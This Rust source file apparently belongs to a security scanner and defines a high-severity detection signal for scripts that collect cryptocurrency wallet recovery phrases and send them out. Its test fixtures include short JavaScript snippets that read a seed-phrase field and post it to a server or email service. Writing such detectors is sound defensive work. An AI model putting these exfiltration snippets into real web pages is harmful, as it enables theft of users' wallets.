//! `seed-phrase-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one, several};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "seed-phrase-sent",
    description: "The script asks for the recovery words of a wallet and sends them.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SeedSent]), one(&[Atom::FieldValue]), several(2, &[Atom::SeedPhrase])],
    within: 500,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"const mnemonic=document.getElementById('mnemonic').value;fetch('store.php',{method:'POST',body:`mnemonic=${encodeURIComponent(mnemonic)}`})"#,
            r#"var a=document.getElementById('seed-phrase').value,b=document.getElementById('keystorepassword').value;emailjs.send('s','t',{message:a||b})"#,
        ],
        without: &[
            r#"wallet=Wallet.fromMnemonic(document.getElementById('mnemonic').value);show('mnemonic')"#,
            r#"fetch('/search',{method:'POST',body:document.getElementById('phrase').value})"#,
        ],
    },
};
